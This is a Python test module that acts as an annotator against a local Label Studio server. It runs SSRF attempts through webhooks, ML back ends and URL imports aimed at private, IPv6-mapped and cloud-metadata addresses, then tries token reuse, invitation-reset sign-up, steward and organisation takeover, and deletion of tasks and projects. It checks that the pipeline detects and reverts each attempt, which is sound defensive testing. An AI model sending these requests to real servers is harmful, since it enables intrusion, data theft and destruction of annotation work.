"""What an annotator's account can do to a real review server that stands without a proxy, and that it is found.

One server, one annotator, one listener on 127.0.0.1 that is all that an attacker may have there: a back end, a webhook,
a page. What remains open is open in Label Studio's community edition itself: every account may do everything there.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
from commands import curate
from review_parts.foreign_program import ForeignProgram, foreign_program
from review_parts.label_studio_servers import BenchmarkServer, label_studio

from curation.record import Record
from curation.store import Store
from door_parts.attack import Attack
from pipeline.config import CONFIG_FILE
from pipeline.steps.review.pull import pull_reviews
from pipeline.steps.review.push import push_records
from pipeline.steps.review.secure import secure_review
from pipeline.steps.review.status import review_status
from pipeline.workspace import Workspace

DOOR = "review server"

#: Addresses of every kind that no server of ours may call; none is a real service that these attacks would reach.
ELSEWHERE = {
    "public": "http://93.184.216.34",
    "public, IPv6": "http://[2606:2800:220:1::1]",
    "private": "http://192.168.0.1",
    "private, IPv6": "http://[fd00::1]",
    "of cloud machines": "http://169.254.169.254",
    "mapped into IPv6": "http://[::ffff:10.0.0.1]",
    "another loopback": "http://127.0.0.53",
    "as one number": "http://3232235521",
    "every interface": "http://0.0.0.0",
}

#: What stays possible, and what comes of it.
FOUND = "named by status, pull, watch and doctor; put back by `review secure`"
COMMUNITY = "every account may do this in the community edition"


def attacks(folder: Path, quick: bool) -> Iterator[Attack]:
    """Every attack against one server, then whether each was found, put back, and lost nothing."""
    with label_studio() as server:
        workspace = Workspace.make(server.workspace)
        config = f'[review]\nproject = "{server.settings.project}"\nunvalidated = true\n'
        (workspace.folder / CONFIG_FILE).write_text(config, encoding="utf-8")
        with workspace.open_store() as store, foreign_program() as listener, _annotator(server) as anna:
            store.add_records(
                Record(id=f"door-{number}", group="g", source="doors", language="en", text=f"Fever for {number} days.")
                for number in range(3)
            )
            push_records(workspace, store)
            project = _project(anna, server.settings.project)
            yield from _calls_elsewhere(anna, project, quick=quick)
            yield from _outlets(anna, project, listener)
            yield from _accounts(anna, project)
            yield _found_and_put_back(workspace, store)
            yield _locked_out(anna, workspace, store)
            yield from _deletions(anna, project, workspace, store)


def _project(anna: httpx.Client, title: str) -> int:
    found = anna.get("/api/projects", params={"title": title}).json()["results"]
    return min(int(project["id"]) for project in found if project["title"] == title)


def _calls_elsewhere(anna: httpx.Client, project: int, *, quick: bool) -> Iterator[Attack]:
    for kind, address in list(ELSEWHERE.items())[: 4 if quick else None]:
        hook = anna.post("/api/webhooks/", json={"url": f"{address}:9/", "project": project, "send_payload": True})
        backend = anna.post("/api/ml", json={"url": f"{address}:9", "project": project, "title": "theirs"})
        page = anna.post(f"/api/projects/{project}/import", data={"url": f"{address}:9/tasks.json"})
        statuses = {"webhook": hook.status_code, "back end": backend.status_code, "import": page.status_code}
        open_ways = [way for way, status in statuses.items() if status < 300]
        yield Attack(DOOR, f"webhook, back end, import: {kind} address", bool(open_ways), f"HTTP {statuses}")
    bucket = {"project": project, "bucket": "theirs", "title": "theirs", "region_name": "eu-west-1"}
    bucket |= {"aws_access_key_id": "key", "aws_secret_access_key": "secret"}
    answer = anna.post("/api/storages/export/s3", json=bucket)
    why = "the libraries of cloud storages are sent to a proxy that is not there"
    yield Attack(
        DOOR, "export storage in a public cloud", answer.status_code < 300, f"HTTP {answer.status_code}: {why}"
    )
    answer = anna.post("/api/storages/localfiles", json={"project": project, "path": "/", "title": "theirs"})
    why = "switched off"
    yield Attack(
        DOOR, "files of this machine as a storage", answer.status_code < 300, f"HTTP {answer.status_code}: {why}"
    )


def _outlets(anna: httpx.Client, project: int, listener: ForeignProgram) -> Iterator[Attack]:
    answer = anna.post("/api/ml", json={"url": listener.url, "project": project, "title": "theirs"})
    yield Attack(DOOR, "live back end by URL on 127.0.0.1", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
    tokens = {str(body.get("access_token")) for body in listener.bodies("/setup")}
    accepted = [token for token in tokens if _opens(anna.base_url, token)]
    seen = f"{len(tokens)} token at /setup: of the service account, and none that the server takes"
    yield Attack(DOOR, "use the token that a live back end gets", bool(accepted), seen)
    hook = {"url": f"{listener.url}/hook", "project": project, "send_payload": True}
    anna.post("/api/webhooks/", json=hook)
    task = anna.get("/api/tasks", params={"project": project}).json()["tasks"][0]["id"]
    anna.post(f"/api/tasks/{task}/annotations/", json={"result": [], "lead_time": 1})
    got = sum("text" in body.get("task", {}).get("data", {}) for body in listener.bodies("/hook"))
    yield Attack(DOOR, "webhook with payload on 127.0.0.1", got > 0, f"{got} texts came; {COMMUNITY}; {FOUND}")
    page = anna.post(f"/api/projects/{project}/import", data={"url": f"{listener.url}/tasks.json"})
    read = "a page of this machine" in page.text or page.status_code < 300
    why = "the server calls 127.0.0.1 for our back end and knows no ports; tasks that we did not send are counted"
    yield Attack(DOOR, "import by URL of a service on 127.0.0.1", read, why)
    watch = {"url": f"{listener.url}/hints", "project": project, "headers": {"X-Clincurate-Secret": "a secret"}}
    number = anna.post("/api/webhooks/", json=watch).json().get("id")
    shown = [hook["headers"] for hook in anna.get("/api/webhooks/").json() if hook["id"] == number]
    why = f"{COMMUNITY}; whoever has it can make `review watch` pull once more, and nothing else"
    yield Attack(DOOR, "read the secret of the hints", bool(shown), why)


def _accounts(anna: httpx.Client, project: int) -> Iterator[Attack]:
    me = anna.get("/api/current-user/whoami").json()["id"]
    steward, organization = 1, 1
    token = anna.post("/api/invite/reset-token").json().get("token")
    signed = _signs_up(str(anna.base_url), str(token))
    yield Attack(DOOR, "reset the invitation and let a stranger sign up", signed, f"{COMMUNITY}; {FOUND}")
    answer = anna.patch(f"/api/users/{steward}/", json={"first_name": "Anna", "username": "anna"})
    yield Attack(DOOR, "rename the steward", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
    answer = anna.post("/api/users/", json={"email": "made@example.org", "username": "made"})
    yield Attack(DOOR, "make an account", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
    answer = anna.patch(f"/api/organizations/{organization}", json={"created_by": me, "title": "Theirs"})
    yield Attack(DOOR, "own the organisation", answer.json().get("created_by") == me, "its owner cannot be changed")
    answer = anna.delete(f"/api/organizations/{organization}/memberships/{steward}/")
    yield Attack(DOOR, "remove the steward", answer.status_code < 300, f"HTTP {answer.status_code}: its owner only")
    answer = anna.patch(
        f"/api/projects/{project}/", json={"sampling": "Uniform sampling", "show_collab_predictions": False}
    )
    yield Attack(DOOR, "change the project's settings", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")


def _foreign(workspace: Workspace, store: Store) -> list[str]:
    """What status names."""
    found = review_status(workspace, store)["foreign"]
    return [str(line) for line in found] if isinstance(found, list) else []


def _found_and_put_back(workspace: Workspace, store: Store) -> Attack:
    """Nothing that was done above stays unseen, and one command leaves nothing of it."""
    named = _foreign(workspace, store)
    pulled = curate("review", "pull", "--json", "--workspace", str(workspace.folder))
    kinds = {line.partition(":")[0] for line in named}
    wanted = {"back end", "webhook", "invitation", "account", "organisation", "project setting"}
    loud = "WARNING" in pulled.stderr and json.loads(pulled.stdout)["foreign"] != []
    done = json.loads(curate("review", "secure", "--json", "--workspace", str(workspace.folder)).stdout)
    unseen = sorted(wanted - kinds)
    left = [line for line in _foreign(workspace, store) if not line.startswith("tasks:")]
    seen = (
        f"{len(named)} named, put back {done['put_back']}, closed {len(done['closed'])}; unseen {unseen}, left {left}"
    )
    return Attack(DOOR, "any of this in silence, or for good", bool(unseen or left or not loud), seen)


def _locked_out(anna: httpx.Client, workspace: Workspace, store: Store) -> Attack:
    anna.post("/api/jwt/settings", json={"legacy_api_tokens_enabled": False, "api_tokens_enabled": False})
    broken = review_status(workspace, store)["up"]
    secure_review(workspace, store)
    after = review_status(workspace, store)["up"]
    seen = f"server answered our token: before `review secure` {broken}, after {after}"
    return Attack(DOOR, "lock the commands out for good", not after, seen)


def _deletions(anna: httpx.Client, project: int, workspace: Workspace, store: Store) -> Iterator[Attack]:
    tasks = anna.get("/api/tasks", params={"project": project}).json()["tasks"]
    before = _human_layers(store)
    gone = anna.delete(f"/api/tasks/{tasks[0]['id']}/").status_code < 300
    said = pull_reviews(workspace, store).deleted
    kept = _human_layers(store) == before
    seen = f"{COMMUNITY}; pull says {said}; what was pulled is {'kept' if kept else 'LOST'}"
    yield Attack(DOOR, "delete tasks with their answers", gone, seen)
    gone = anna.delete(f"/api/projects/{project}/").status_code < 300
    told = [line for line in _foreign(workspace, store) if "was deleted" in line]
    pull_reviews(workspace, store)
    kept = _human_layers(store) == before
    seen = f"{COMMUNITY}; status says {told}; what was pulled is {'kept' if kept else 'LOST'}"
    yield Attack(DOOR, "delete the project", gone, seen)


def _human_layers(store: Store) -> dict[str, int]:
    """What the store has of people, by layer."""
    return {name: count for name, count in store.layer_names().items() if name.startswith("human:")}


def _opens(url: object, token: str) -> bool:
    """Whether a token opens the server, in either way of sending it."""
    return any(
        httpx.get(f"{url}/api/projects", headers={"Authorization": f"{way} {token}"}, trust_env=False).status_code < 300
        for way in ("Token", "Bearer")
    )


def _signs_up(url: str, token: str) -> bool:
    with httpx.Client(base_url=url, trust_env=False, timeout=60) as stranger:
        stranger.get("/user/signup/", params={"token": token})
        form = {"email": "stranger@example.org", "password": "long-enough-1", "allow_newsletters": "false"}
        headers = {"X-CSRFToken": stranger.cookies.get("csrftoken", ""), "Referer": url}
        stranger.post("/user/signup/", params={"token": token}, data=form, headers=headers)
        return stranger.get("/api/projects").status_code < 300


def _annotator(server: BenchmarkServer) -> httpx.Client:
    """The annotator's own requests, with the token that the account page shows to everybody of his own."""
    headers = {"Authorization": f"Token {server.token('anna')}"}
    return httpx.Client(base_url=server.url, headers=headers, trust_env=False, timeout=120)
